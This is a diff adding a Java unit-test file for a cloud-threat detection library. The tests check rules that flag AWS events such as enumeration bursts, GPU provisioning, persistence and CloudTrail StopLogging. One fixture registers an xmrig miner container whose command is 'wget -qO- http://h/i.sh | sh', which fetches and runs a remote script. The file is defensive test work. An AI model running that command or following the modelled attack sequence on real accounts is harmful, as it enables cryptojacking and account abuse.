@@ -1,0 +1,501 @@
+package io.trailsentry.detect.rules;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.trailsentry.detect.DetectionPolicy;
+import io.trailsentry.detect.Detections;
+import io.trailsentry.detect.Severity;
+import io.trailsentry.detect.Signal;
+import io.trailsentry.profile.Profile;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.stream.Collectors;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+
+/** Positive and negative examples for every per-event detection, against a built-up baseline. */
+class RulesTest {
+    static final long DAY = 86_400_000L;
+    static final long T0 = 1_773_100_800_000L; // 2026-03-10T00:00:00Z
+    static final long ATTACK = T0 + 14 * 3_600_000L;
+
+    DetectionPolicy policy;
+    Rules rules;
+    Profile profile;
+    int seq;
+
+    @BeforeEach
+    void matureBaseline() {
+        policy = DetectionPolicy.defaults();
+        rules = new Rules(policy);
+        profile = new Profile();
+        // two days of a reporting job from its usual server: athena and s3 in us-east-1
+        for (long t = T0 - 2 * DAY; t < T0 + 12 * 3_600_000L; t += 600_000L) {
+            observe(Events.event("athena", "GetQueryResults", t).readOnly());
+            observe(Events.event("s3", "ListBuckets", t + 1_000).readOnly());
+        }
+    }
+
+    List<Signal> observe(Events e) {
+        List<Signal> out = new ArrayList<>();
+        rules.observe(profile, e.id("e" + seq++).build(), out::add);
+        return out;
+    }
+
+    static List<String> ids(List<Signal> signals) {
+        return signals.stream().map(s -> s.detectionId).collect(Collectors.toList());
+    }
+
+    @Test
+    void theFirstEventOfAPrincipalIsNewButOnlyInformational() {
+        profile = new Profile();
+        List<Signal> out = observe(Events.event("sts", "GetCallerIdentity", ATTACK).readOnly());
+        assertThat(out)
+                .singleElement()
+                .satisfies(
+                        s -> {
+                            assertThat(s.detectionId).isEqualTo(Detections.NEW_PRINCIPAL.id);
+                            assertThat(s.routine).isTrue();
+                            assertThat(s.counted()).isFalse();
+                        });
+    }
+
+    @Test
+    void aNewSourceIsReportedOnceAnHourForMatureBaselines() {
+        assertThat(ids(observe(Events.event("athena", "GetQueryResults", ATTACK).readOnly())))
+                .isEmpty();
+        List<Signal> out =
+                observe(
+                        Events.event("sts", "GetCallerIdentity", ATTACK)
+                                .readOnly()
+                                .from("203.0.113.77", "Boto3/1.28"));
+        assertThat(ids(out)).containsExactly(Detections.NEW_SOURCE.id);
+        assertThat(out.get(0).summary).contains("203.0.113.0/24", "usual: 198.51.100.0/24");
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event("iam", "ListUsers", ATTACK + 1_000)
+                                                .readOnly()
+                                                .from("203.0.113.77", "Boto3/1.28"))))
+                .isEmpty();
+    }
+
+    @Test
+    void immatureBaselinesReportNoNovelty() {
+        profile = new Profile();
+        observe(Events.event("athena", "GetQueryResults", ATTACK));
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event("sts", "GetCallerIdentity", ATTACK + 1_000)
+                                                .readOnly()
+                                                .from("203.0.113.77", "x/1"))))
+                .isEmpty();
+    }
+
+    @Test
+    void aNewLongLivedKeyIsReportedButSessionKeysAreNot() {
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event("athena", "GetQueryResults", ATTACK)
+                                                .key("AKIANEWKEY"))))
+                .containsExactly(Detections.NEW_ACCESS_KEY.id);
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event("athena", "GetQueryResults", ATTACK)
+                                                .key("ASIATEMPORARY"))))
+                .isEmpty();
+    }
+
+    @Test
+    void enumerationNeedsManyDistinctReadsAcrossServicesInMinutes() {
+        String[][] calls = {
+            {"iam", "ListUsers"},
+            {"iam", "ListRoles"},
+            {"iam", "ListAccessKeys"},
+            {"ec2", "DescribeRegions"},
+            {"ec2", "DescribeInstances"},
+            {"ec2", "DescribeVpcs"},
+            {"ecs", "ListClusters"},
+            {"lambda", "ListFunctions"},
+            {"s3", "GetBucketPolicy"},
+            {"sagemaker", "ListNotebookInstances"},
+            {"iam", "ListPolicies"}
+        };
+        List<String> fired = new ArrayList<>();
+        for (int i = 0; i < calls.length; i++) {
+            fired.addAll(
+                    ids(
+                            observe(
+                                    Events.event(calls[i][0], calls[i][1], ATTACK + i * 5_000L)
+                                            .readOnly())));
+        }
+        assertThat(fired).containsExactly(Detections.ENUMERATION_BURST.id);
+    }
+
+    @Test
+    void enumerationByAnImmaturePrincipalIsEvidenceNotCounted() {
+        profile = new Profile();
+        observe(Events.event("sts", "GetCallerIdentity", ATTACK).readOnly());
+        String[][] calls = {
+            {"iam", "ListUsers"},
+            {"iam", "ListRoles"},
+            {"iam", "ListAccessKeys"},
+            {"ec2", "DescribeRegions"},
+            {"ec2", "DescribeInstances"},
+            {"ec2", "DescribeVpcs"},
+            {"ecs", "ListClusters"},
+            {"lambda", "ListFunctions"},
+            {"s3", "GetBucketPolicy"},
+            {"sagemaker", "ListNotebookInstances"}
+        };
+        List<Signal> out = new ArrayList<>();
+        for (int i = 0; i < calls.length; i++) {
+            out.addAll(
+                    observe(
+                            Events.event(calls[i][0], calls[i][1], ATTACK + (i + 1) * 5_000L)
+                                    .readOnly()));
+        }
+        assertThat(out)
+                .singleElement()
+                .satisfies(
+                        s -> {
+                            assertThat(s.detectionId).isEqualTo(Detections.ENUMERATION_BURST.id);
+                            assertThat(s.counted()).isFalse();
+                        });
+    }
+
+    @Test
+    void slowReadsAreNotEnumeration() {
+        String[] apis = {
+            "ListUsers",
+            "ListRoles",
+            "DescribeRegions",
+            "DescribeVpcs",
+            "ListClusters",
+            "ListFunctions",
+            "GetBucketPolicy",
+            "ListNotebookInstances",
+            "ListPolicies",
+            "DescribeInstances",
+            "ListAccessKeys"
+        };
+        String[] services = {
+            "iam", "iam", "ec2", "ec2", "ecs", "lambda", "s3", "sagemaker", "iam", "ec2", "iam"
+        };
+        for (int i = 0; i < apis.length; i++) {
+            assertThat(
+                            ids(
+                                    observe(
+                                            Events.event(
+                                                            services[i],
+                                                            apis[i],
+                                                            ATTACK + i * 120_000L)
+                                                    .readOnly())))
+                    .isEmpty();
+        }
+    }
+
+    @Test
+    void gpuQuotaReadsAreReconnaissanceOtherQuotasAreNot() {
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event("servicequotas", "GetServiceQuota", ATTACK)
+                                                .readOnly()
+                                                .quota("L-DB2E81BA"))))
+                .containsExactly(Detections.QUOTA_RECON.id);
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event("servicequotas", "GetServiceQuota", ATTACK)
+                                                .readOnly()
+                                                .quota("L-0263D0A3"))))
+                .isEmpty();
+    }
+
+    @Test
+    void dryRunProbesAreRoutineForPrincipalsThatProbeEveryDay() {
+        List<Signal> first =
+                observe(
+                        Events.event("ec2", "RunInstances", ATTACK)
+                                .error("Client.DryRunOperation")
+                                .types("p3.2xlarge"));
+        assertThat(first)
+                .singleElement()
+                .satisfies(
+                        s -> {
+                            assertThat(s.detectionId).isEqualTo(Detections.DRYRUN_PROBE.id);
+                            assertThat(s.routine).isFalse();
+                        });
+        List<Signal> nextDay =
+                observe(
+                        Events.event("ec2", "RunInstances", ATTACK + DAY)
+                                .error("Client.DryRunOperation")
+                                .types("p3.2xlarge"));
+        assertThat(nextDay).singleElement().satisfies(s -> assertThat(s.routine).isTrue());
+    }
+
+    @Test
+    void accessDeniedBurstsNeedTenDenialsInFiveMinutes() {
+        List<String> fired = new ArrayList<>();
+        for (int i = 0; i < 9; i++) {
+            fired.addAll(
+                    ids(
+                            observe(
+                                    Events.event("s3", "ListObjects", ATTACK + i * 20_000L)
+                                            .error("AccessDenied"))));
+        }
+        assertThat(fired).isEmpty();
+        fired.addAll(
+                ids(
+                        observe(
+                                Events.event("s3", "ListObjects", ATTACK + 200_000L)
+                                        .error("AccessDenied"))));
+        assertThat(fired).containsExactly(Detections.ACCESS_DENIED_BURST.id);
+    }
+
+    @Test
+    void gpuAndLargeRequestsAreProvisioningSignals() {
+        List<Signal> gpu =
+                observe(
+                        Events.event("ec2", "RunInstances", ATTACK)
+                                .types("g4dn.12xlarge")
+                                .count(10)
+                                .instances("i-1", "i-2"));
+        assertThat(ids(gpu))
+                .contains(
+                        Detections.GPU_COMPUTE.id,
+                        Detections.LARGE_COUNT.id,
+                        Detections.CREATED.id);
+        assertThat(gpu.get(0).severity).isEqualTo(Severity.MEDIUM.id);
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event("ec2", "RunInstances", ATTACK)
+                                                .types("m5.large")
+                                                .count(2)
+                                                .instances("i-3"))))
+                .containsExactly(Detections.CREATED.id);
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event("ec2", "RunInstances", ATTACK)
+                                                .types("p3.2xlarge")
+                                                .error("Client.InstanceLimitExceeded"))))
+                .isEmpty();
+    }
+
+    @Test
+    void largeAutoScalingGroupsAreMediumOnlyWithSuspiciousContext() {
+        List<Signal> plain =
+                observe(
+                        Events.event("autoscaling", "CreateAutoScalingGroup", ATTACK)
+                                .asg("web", 20, 20, 40)
+                                .types("m5.large"));
+        Signal asg =
+                plain.stream()
+                        .filter(s -> s.detectionId.equals(Detections.LARGE_AUTOSCALING_GROUP.id))
+                        .findFirst()
+                        .orElseThrow();
+        assertThat(asg.severity).isEqualTo(Severity.LOW.id);
+        assertThat(asg.resources).containsExactly("web");
+        List<Signal> farGpu =
+                observe(
+                        Events.event("autoscaling", "CreateAutoScalingGroup", ATTACK)
+                                .asg("x", 20, 20, 999)
+                                .types("p3.16xlarge")
+                                .region("sa-east-1"));
+        assertThat(ids(farGpu))
+                .contains(
+                        Detections.GPU_COMPUTE.id,
+                        Detections.LARGE_AUTOSCALING_GROUP.id,
+                        Detections.NEW_REGION_COMPUTE.id);
+        assertThat(
+                        farGpu.stream()
+                                .filter(
+                                        s ->
+                                                s.detectionId.equals(
+                                                        Detections.LARGE_AUTOSCALING_GROUP.id))
+                                .findFirst()
+                                .orElseThrow()
+                                .severity)
+                .isEqualTo(Severity.MEDIUM.id);
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event(
+                                                        "autoscaling",
+                                                        "CreateAutoScalingGroup",
+                                                        ATTACK)
+                                                .asg("small", 1, 2, 19))))
+                .doesNotContain(Detections.LARGE_AUTOSCALING_GROUP.id);
+    }
+
+    @Test
+    void provisioningRoutineForThePrincipalIsNotCounted() {
+        observe(
+                Events.event("autoscaling", "CreateAutoScalingGroup", ATTACK)
+                        .asg("web", 20, 20, 40)
+                        .types("m5.large"));
+        List<Signal> tomorrow =
+                observe(
+                        Events.event("autoscaling", "CreateAutoScalingGroup", ATTACK + DAY)
+                                .asg("web2", 20, 20, 40)
+                                .types("m5.large"));
+        assertThat(tomorrow)
+                .filteredOn(s -> s.detectionId.equals(Detections.LARGE_AUTOSCALING_GROUP.id))
+                .singleElement()
+                .satisfies(s -> assertThat(s.counted()).isFalse());
+    }
+
+    @Test
+    void expectedRegionsFromPolicyOverrideTheBaseline() {
+        policy.expectedRegions = new String[] {"eu-west-1"};
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event("ec2", "RunInstances", ATTACK)
+                                                .types("m5.large")
+                                                .region("us-east-1"))))
+                .contains(Detections.NEW_REGION_COMPUTE.id);
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event("ec2", "RunInstances", ATTACK)
+                                                .types("m5.large")
+                                                .region("eu-west-1"))))
+                .doesNotContain(Detections.NEW_REGION_COMPUTE.id);
+    }
+
+    @Test
+    void containerChecksReadTheTaskDefinition() {
+        List<Signal> miner =
+                observe(
+                        Events.event("ecs", "RegisterTaskDefinition", ATTACK)
+                                .task(
+                                        "docker.io/x/xmrig:latest",
+                                        "sh -c wget -qO- http://h/i.sh | sh"));
+        assertThat(ids(miner))
+                .contains(
+                        Detections.MINER_MARKERS.id,
+                        Detections.SHELL_BOOTSTRAP.id,
+                        Detections.UNAPPROVED_IMAGE.id,
+                        Detections.CREATED.id);
+        assertThat(miner.get(0).severity).isEqualTo(Severity.HIGH.id);
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event("ecs", "RegisterTaskDefinition", ATTACK)
+                                                .task(
+                                                        Events.ACCOUNT
+                                                                + ".dkr.ecr.us-east-1.amazonaws.com/web:1",
+                                                        null))))
+                .containsExactly(Detections.CREATED.id);
+        policy.approvedRegistries = new String[] {"public.ecr.aws/acme/"};
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event("ecs", "RegisterTaskDefinition", ATTACK)
+                                                .task(
+                                                        "public.ecr.aws/acme/agent:2",
+                                                        "sh -c echo ok"))))
+                .containsExactly(Detections.CREATED.id);
+    }
+
+    @Test
+    void frictionAndPersistence() {
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event("ec2", "ModifyInstanceAttribute", ATTACK)
+                                                .protect(true)
+                                                .instances("i-9"))))
+                .containsExactly(Detections.TERMINATION_PROTECTION.id);
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event("ec2", "ModifyInstanceAttribute", ATTACK)
+                                                .protect(false)
+                                                .instances("i-9"))))
+                .isEmpty();
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event("autoscaling", "SetInstanceProtection", ATTACK)
+                                                .scaleIn("asg-1"))))
+                .containsExactly(Detections.SCALE_IN_PROTECTION.id);
+        assertThat(
+                        observe(
+                                Events.event("iam", "AttachRolePolicy", ATTACK)
+                                        .role("r", "arn:aws:iam::aws:policy/AdministratorAccess")))
+                .singleElement()
+                .satisfies(s -> assertThat(s.severity).isEqualTo(Severity.MEDIUM.id));
+        assertThat(
+                        observe(
+                                Events.event("iam", "AttachRolePolicy", ATTACK)
+                                        .role("r", "arn:aws:iam::aws:policy/ReadOnlyAccess")))
+                .singleElement()
+                .satisfies(s -> assertThat(s.severity).isEqualTo(Severity.LOW.id));
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event("iam", "CreateAccessKey", ATTACK)
+                                                .newKey("u", "AKIACREATED"))))
+                .containsExactly(Detections.IAM_USER_PERSISTENCE.id, Detections.CREATED.id);
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event("lambda", "CreateFunctionUrlConfig", ATTACK)
+                                                .url("f", "NONE"))))
+                .containsExactly(Detections.PUBLIC_FUNCTION.id);
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event("lambda", "CreateFunctionUrlConfig", ATTACK)
+                                                .url("f", "AWS_IAM"))))
+                .isEmpty();
+        assertThat(observe(Events.event("cloudtrail", "StopLogging", ATTACK)))
+                .singleElement()
+                .satisfies(s -> assertThat(s.severity).isEqualTo(Severity.HIGH.id));
+        assertThat(
+                        ids(
+                                observe(
+                                        Events.event("cloudtrail", "StopLogging", ATTACK)
+                                                .error("AccessDenied"))))
+                .isEmpty();
+    }
+
+    @Test
+    void createdResourcesAreRoutineObservationsWithTypedTargets() {
+        List<Signal> out = observe(Events.event("ecs", "CreateCluster", ATTACK).cluster("c1"));
+        assertThat(out)
+                .singleElement()
+                .satisfies(
+                        s -> {
+                            assertThat(s.detectionId).isEqualTo(Detections.CREATED.id);
+                            assertThat(s.resourceType).isEqualTo("ecs-cluster");
+                            assertThat(s.resources).containsExactly("c1");
+                            assertThat(s.counted()).isFalse();
+                        });
+    }
+
+    @Test
+    void theBaselineStaysBoundedHoweverMuchItSees() {
+        for (int i = 0; i < 5_000; i++) {
+            observe(
+                    Events.event("svc" + (i % 300), "Api" + i, ATTACK + i * 1_000L)
+                            .readOnly()
+                            .from("10." + (i % 200) + ".0.1", "tool" + i + "/1")
+                            .region("r-" + (i % 50)));
+        }
+        assertThat(profile.apis.size()).isLessThanOrEqualTo(64);
+        assertThat(profile.services.size()).isLessThanOrEqualTo(32);
+        assertThat(profile.sources.size()).isLessThanOrEqualTo(16);
+        assertThat(profile.userAgents.size()).isLessThanOrEqualTo(8);
+        assertThat(profile.regions.size()).isLessThanOrEqualTo(16);
+        assertThat(profile.reads.times.length).isLessThanOrEqualTo(32);
+    }
+}
